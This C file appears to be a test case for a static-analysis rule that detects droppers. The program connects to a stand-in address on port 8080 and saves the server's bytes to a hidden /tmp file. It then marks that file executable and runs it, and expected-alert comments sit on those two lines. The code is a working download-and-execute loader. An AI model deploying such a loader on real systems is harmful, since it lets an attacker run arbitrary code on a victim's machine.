/*
 * behavior.dropper: a loader that copies what the server sends into a file
 * one byte at a time with fputc, marks it executable and runs it.
 */
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>

#define PAYLOAD "/tmp/.cache-helper"

int main(void)
{
    int s = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(8080);
    a.sin_addr.s_addr = inet_addr("203.0.113.50");
    if (connect(s, (struct sockaddr *)&a, sizeof a) != 0)
        return 1;
    FILE *out = fopen(PAYLOAD, "wb");
    if (!out)
        return 1;
    unsigned char c;
    while (recv(s, &c, 1, 0) == 1)
        fputc(c, out);
    fclose(out);
    close(s);
    chmod(PAYLOAD, 0700); // $ Alert[behavior.dropper]
    execl(PAYLOAD, PAYLOAD, (char *)NULL); // $ Alert[behavior.dropper]
    return 1;
}
